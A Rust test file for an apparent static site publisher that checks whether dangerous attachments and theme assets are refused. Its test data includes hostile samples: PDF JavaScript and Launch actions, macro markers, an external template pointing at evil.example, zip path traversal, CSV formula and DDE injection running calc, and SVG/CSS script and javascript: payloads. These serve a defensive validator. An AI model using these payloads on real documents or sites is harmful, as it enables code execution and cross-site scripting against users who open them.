//! Files that act when they are opened are no attachments, and no part of a theme.

use crate::support::World;

const RECORD: &str = "content/records/alpha/2026-h1.md";
const INNER: &str = "content/records/inner/2026-03.md";
const OLE: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest of the file";

fn attach(world: &World, record: &str, name: &str, bytes: &[u8]) {
    let folder = record.rsplit_once('/').unwrap().0;
    world.write(&format!("{folder}/{name}"), bytes);
    let entry = format!("[[attachment]]\nfile = \"{name}\"\ntitle = \"另一附件\"\nkind = \"文字\"\n\n[[revision]]");
    world.edit(record, "[[revision]]", &entry);
}

/// An archive whose files are stored; or deflated in blocks that are not compressed.
fn zip(files: &[(&str, &[u8])], deflated: bool) -> Vec<u8> {
    let (mut out, mut list) = (Vec::new(), Vec::new());
    for (name, bytes) in files {
        let short = |n: usize| u16::try_from(n).unwrap().to_le_bytes();
        let long = |n: usize| u32::try_from(n).unwrap().to_le_bytes();
        let held = if deflated {
            [&[1][..], &short(bytes.len()), &(!u16::try_from(bytes.len()).unwrap()).to_le_bytes(), bytes].concat()
        } else {
            bytes.to_vec()
        };
        let method = short(if deflated { 8 } else { 0 });
        let sizes = [&[0; 4][..], &long(held.len()), &long(bytes.len()), &short(name.len()), &[0; 2]].concat();
        list.push(
            [b"PK\x01\x02\x14\0\x14\0\0\0", &method[..], &[0; 4], &sizes, &[0; 10], &long(out.len()), name.as_bytes()]
                .concat(),
        );
        out.extend([b"PK\x03\x04\x14\0\0\0", &method[..], &[0; 4], &sizes, name.as_bytes(), &held].concat());
    }
    let (start, list_bytes) = (u32::try_from(out.len()).unwrap(), list.concat());
    let count = u16::try_from(list.len()).unwrap().to_le_bytes();
    let size = u32::try_from(list_bytes.len()).unwrap().to_le_bytes();
    out.extend(list_bytes);
    out.extend([b"PK\x05\x06\0\0\0\0", &count[..], &count, &size, &start.to_le_bytes(), b"\0\0"].concat());
    out
}

fn types(main: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/x.xml\" ContentType=\"application/{main}.main+xml\"/></Types>"
    )
    .into_bytes()
}

const DOCX: &str = "vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX: &str = "vnd.openxmlformats-officedocument.spreadsheetml.sheet";

fn office(main: &str, more: &[(&str, &[u8])], deflated: bool) -> Vec<u8> {
    let types = types(main);
    let mut files: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", &types), ("x.xml", b"<x/>")];
    files.extend(more);
    zip(&files, deflated)
}

fn good() -> Vec<(&'static str, Vec<u8>)> {
    let rels = b"<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"https://www.example.gov.cn/\" TargetMode=\"External\"/></Relationships>";
    vec![
        ("a.pdf", b"%PDF-1.7\n/Type /Catalog".to_vec()),
        ("a.ofd", zip(&[("OFD.xml", b"<ofd/>"), ("Doc_0/Document.xml", b"<x/>")], true)),
        (
            "a.docx",
            office(DOCX, &[("word/_rels/document.xml.rels", rels), ("word/embeddings/sheet.xlsx", b"PK")], true),
        ),
        ("b.docx", office(DOCX, &[], false)),
        ("a.xlsx", office(XLSX, &[], true)),
        ("a.pptx", office("vnd.openxmlformats-officedocument.presentationml.presentation", &[], true)),
        ("a.doc", OLE.to_vec()),
        ("a.xls", OLE.to_vec()),
        ("a.wps", OLE.to_vec()),
        ("a.et", OLE.to_vec()),
        ("a.jpg", b"\xff\xd8\xff\xe0..JFIF".to_vec()),
        ("a.jpeg", b"\xff\xd8\xff\xe1..Exif".to_vec()),
        ("a.png", b"\x89PNG\r\n\x1a\n".to_vec()),
        ("a.gif", b"GIF89a".to_vec()),
        ("a.webp", b"RIFF\x10\0\0\0WEBPVP8 ".to_vec()),
        ("a.tif", b"II*\0".to_vec()),
        ("a.mp4", b"\0\0\0\x20ftypisom".to_vec()),
        ("a.mp3", b"ID3\x04".to_vec()),
        ("a.txt", "说明：a < b，<金额> 以万元计。\n".as_bytes().to_vec()),
        ("b.txt", encoding_rs::GB18030.encode("国标编码的说明\n").0.into_owned()),
        ("a.csv", "项目,金额\n甲,-0.08\n—,/\n".as_bytes().to_vec()),
        ("a.zip", zip(&[("资料/a.pdf", b"%PDF-"), ("b.DOCX", b"PK"), ("folder/", b"")], true)),
        ("notes.v2.2026.pdf", b"%PDF-1.4".to_vec()),
    ]
}

#[test]
fn files_that_are_what_their_names_say_are_published() {
    let world = World::new();
    for (name, bytes) in good() {
        attach(&world, RECORD, name, &bytes);
    }
    world.run(&["check"]).expect(0, "");
    world.run(&["build"]).expect(0, "public: ");
    for (name, bytes) in good() {
        assert_eq!(world.tree("public")[&format!("records/alpha/{name}")], bytes, "{name}");
    }
}

/// Names that are refused whatever is in the file.
fn bad_names() -> Vec<(&'static str, Vec<u8>)> {
    [
        "a.svg",
        "a.html",
        "a.htm",
        "a.xhtml",
        "a.shtml",
        "a.js",
        "a.mjs",
        "a.php",
        "a.jsp",
        "a.asp",
        "a.aspx",
        "a.hta",
        "a.exe",
        "a.bat",
        "a.cmd",
        "a.ps1",
        "a.vbs",
        "a.docm",
        "a.xlsm",
        "a.pptm",
        "a.dotm",
        "web.config",
        "a.lnk",
        "a.url",
        "a.mht",
        "a.mhtml",
        "a.swf",
        "a.jar",
        "a.chm",
        "a.scr",
        "a.msi",
        "a.iso",
        "a.rtf",
        "a.xml",
        "a.xsl",
        "a.eml",
        "a.rar",
        "a.7z",
        "a.bin",
        "a.php.txt",
        "a.html.pdf",
        "a.phtml.csv",
        "a.exe.zip",
        "a.cgi.jpg",
    ]
    .into_iter()
    .map(|name| (name, b"some text\n".to_vec()))
    .collect()
}

/// Names that are allowed, with something else in the file.
fn bad_contents() -> Vec<(&'static str, Vec<u8>)> {
    let away = b"<Relationships><Relationship Id='a' Type='http://x/attachedTemplate' Target='https://evil.example/x.dotm' TargetMode='External'/></Relationships>";
    let prefixed = b"<p:Relationships xmlns:p='x'><p:Relationship\nTargetMode = \"External\" Type='http://x/oleObject' Target='x'/></p:Relationships>";
    let vba: Vec<u8> = "_VBA_PROJECT".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut late = OLE.to_vec();
    late.extend(vec![0; 70_000]);
    late.extend(&vba);
    let script = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec();
    let html = b"<html><script>alert(1)</script></html>".to_vec();
    let exe = b"MZ\x90\0\x03\0\0\0".to_vec();
    let pdf = b"%PDF-1.7\n/OpenAction << /S /JavaScript /JS (app.alert(1)) >>".to_vec();
    let launch = b"%PDF-1.7\n/S /Launch /F (cmd.exe)".to_vec();
    vec![
        ("a.pdf", html.clone()),
        ("b.pdf", pdf),
        ("c.pdf", launch),
        ("d.pdf", Vec::new()),
        ("a.jpg", script.clone()),
        ("a.png", exe.clone()),
        ("a.gif", html.clone()),
        ("a.txt", html),
        ("b.txt", b"\xef\xbb\xbf \n<!DOCTYPE html><p>x".to_vec()),
        ("c.txt", b"see this\n<ScRiPt src=x>".to_vec()),
        ("d.txt", exe.clone()),
        ("e.txt", script),
        ("a.docx", zip(&[("x.xml", b"<x/>")], true)),
        ("b.docx", office(XLSX, &[], true)),
        ("c.docx", office("vnd.ms-word.document.macroEnabled", &[], true)),
        ("d.docx", office(DOCX, &[("word/vbaProject.bin", b"x")], true)),
        ("e.docx", office(DOCX, &[("word/_rels/settings.xml.rels", away)], true)),
        ("j.docx", office(DOCX, &[("word/_rels/settings.xml.rels", prefixed)], true)),
        ("f.docx", office(DOCX, &[("word/activeX/activeX1.bin", b"x")], true)),
        ("g.docx", office(DOCX, &[("word/embeddings/oleObject1.bin", b"x")], true)),
        ("h.docx", exe),
        ("i.docx", OLE.to_vec()),
        ("a.xlsx", office(XLSX, &[("xl/macrosheets/sheet1.xml", b"<x/>")], true)),
        ("a.doc", late.clone()),
        ("a.xls", b"<html><table><tr><td>1".to_vec()),
        ("a.wps", late),
        ("a.ofd", zip(&[("x.xml", b"<x/>")], false)),
        ("a.zip", zip(&[("a/b/setup.EXE", b"MZ")], true)),
        ("b.zip", zip(&[("../a.pdf", b"%PDF-")], true)),
        ("c.zip", zip(&[("inner.zip", b"PK")], true)),
        ("d.zip", b"PK\x03\x04 cut off".to_vec()),
        ("a.csv", "项目,金额\n甲,=1+1\n".as_bytes().to_vec()),
        ("b.csv", "项目,\"@SUM(A1)\"\n甲,1\n".as_bytes().to_vec()),
        ("c.csv", "项目,金额\n\"\t=1\",1\n".as_bytes().to_vec()),
        ("d.csv", "项目\n-1+cmd|' /C calc'!A0\n".as_bytes().to_vec()),
    ]
}

fn bad() -> Vec<(&'static str, Vec<u8>)> {
    bad_names().into_iter().chain(bad_contents()).collect()
}

#[test]
fn what_acts_or_is_not_what_its_name_says_is_refused() {
    for (n, (name, bytes)) in bad().into_iter().enumerate() {
        let world = World::new();
        attach(&world, RECORD, name, &bytes);
        let run = world.run(&["check"]);
        assert_eq!(run.code, Some(1), "{name}");
        run.expect(1, "[R120]").expect(1, "2026-h1.md");
        if n % 10 == 0 {
            world.run(&["build"]).expect(1, "[R120]");
            assert!(world.tree("public").is_empty(), "{name}");
        }
    }
}

#[test]
fn inside_it_is_a_warning() {
    for (n, (name, bytes)) in bad().into_iter().enumerate() {
        let world = World::new();
        attach(&world, INNER, name, &bytes);
        let run = world.run(&["check"]);
        run.expect(0, "warning[R121]");
        assert!(!run.said().contains("R120"), "{name}");
        if n % 10 != 0 {
            continue;
        }
        world.run(&["build"]).expect(0, "internal: ");
        assert!(world.tree("internal").contains_key(&format!("records/inner/{name}")), "{name}");
    }
}

#[test]
fn a_csv_with_formulas_is_offered_as_a_table() {
    let world = World::new();
    attach(&world, RECORD, "a.csv", "项目,金额\n甲,=1+1\n".as_bytes());
    world.run(&["check"]).expect(1, "=1+1").expect(1, "[[table]]");
    world.run(&["check", "--lang", "zh"]).expect(1, "公式").expect(1, "[[table]]");
}

#[test]
fn a_table_has_one_ending() {
    let world = World::new();
    let text = world.read("content/records/alpha/2026-h1.csv");
    world.write("content/records/alpha/2026-h1.php.csv", text);
    world.edit(RECORD, "file = \"2026-h1.csv\"", "file = \"2026-h1.php.csv\"");
    world.run(&["check"]).expect(1, "[R120]");
}

#[test]
fn theme_files_do_not_act() {
    let svg = |inner: &str| {
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">{inner}</svg>")
            .into_bytes()
    };
    let good: [(&str, Vec<u8>); 6] = [
        (
            "a.svg",
            svg(
                "<title>标</title><defs><linearGradient id=\"g\"/></defs><path d=\"M0 0h1\" fill=\"url(#g)\"/><use xlink:href=\"#g\"/>",
            ),
        ),
        (
            "b.svg",
            [
                b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- on = x -->\n".to_vec(),
                svg("<style>.a { fill: red }</style>"),
            ]
            .concat(),
        ),
        ("a.css", b"body { color: black }".to_vec()),
        ("a.png", b"\x89PNG\r\n\x1a\n".to_vec()),
        ("a.woff2", b"wOF2rest".to_vec()),
        ("a.txt", b"licence".to_vec()),
    ];
    let world = World::new();
    good.iter().for_each(|(name, bytes)| world.write(&format!("themes/default/assets/{name}"), bytes));
    world.run(&["build"]).expect(0, "public: ");
    let mut bad: Vec<(&str, Vec<u8>)> = [
        "<script>alert(1)</script>",
        "<x:script xmlns:x=\"http://www.w3.org/2000/svg\"/>",
        "<path onload=\"alert(1)\"/>",
        "<path\nONCLICK = 'x'/>",
        "<a href=\"javascript:alert(1)\"><path/></a>",
        "<a xlink:href=\"&#106;avascript:alert(1)\"/>",
        "<image href=\"https://evil.example/x.png\"/>",
        "<use href=\"other.svg#x\"/>",
        "<foreignObject><p/></foreignObject>",
        "<style>@import url(https://evil.example/x.css)</style>",
        "<path fill=\"url(https://evil.example/x#y)\"/>",
        "<path style=\"fill: u\\72l(//evil.example)\"/>",
        "<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>",
        "<set attributeName=\"href\" to=\"x\"/>",
        "<![CDATA[<script>]]>",
        "<?xml-stylesheet href=\"x.css\"?>",
        "<iframe src=\"x\"/>",
    ]
    .map(|inner| ("x.svg", svg(inner)))
    .into();
    bad.extend([
        ("x.svg", b"<!DOCTYPE svg [<!ENTITY a \"x\">]><svg>&a;</svg>".to_vec()),
        ("x.svg", b"<html><body>x</body></html>".to_vec()),
        ("x.svg", "<?xml version=\"1.0\" encoding=\"UTF-7\"?><svg/>".as_bytes().to_vec()),
        ("x.svg", [0xff, 0xfe].into_iter().chain("<svg/>".encode_utf16().flat_map(u16::to_le_bytes)).collect()),
        ("x.js", b"alert(1)".to_vec()),
        ("x.html", b"<p>x".to_vec()),
        ("x.php", b"<?php".to_vec()),
        ("x.png", b"<svg/>".to_vec()),
        ("x.woff2", b"MZ".to_vec()),
        ("x.php.css", b"a {}".to_vec()),
        ("web.config", b"<x/>".to_vec()),
        ("x.css", b"@import url(https://evil.example/x.css);".to_vec()),
        ("x.css", b"a { background: url(//evil.example/x.png) }".to_vec()),
        ("x.css", b"<script>alert(1)</script>".to_vec()),
    ]);
    for (name, bytes) in bad {
        let world = World::new();
        world.write(&format!("themes/default/assets/{name}"), &bytes);
        let said = String::from_utf8_lossy(&bytes).into_owned();
        let run = world.run(&["check"]);
        assert_eq!(run.code, Some(1), "{name}: {said}: {run:?}");
        run.expect(1, "[L002]").expect(1, name);
        world.run(&["build"]).expect(1, name);
    }
}

#[test]
fn no_page_may_run_a_script() {
    let world = World::new();
    world.run(&["build"]).expect(0, "public: ");
    for side in ["public", "internal"] {
        for (path, bytes) in world.tree(side).iter().filter(|(path, _)| path.ends_with(".html")) {
            let text = String::from_utf8_lossy(bytes);
            assert!(text.contains("script-src 'none'"), "{path}");
        }
    }
}
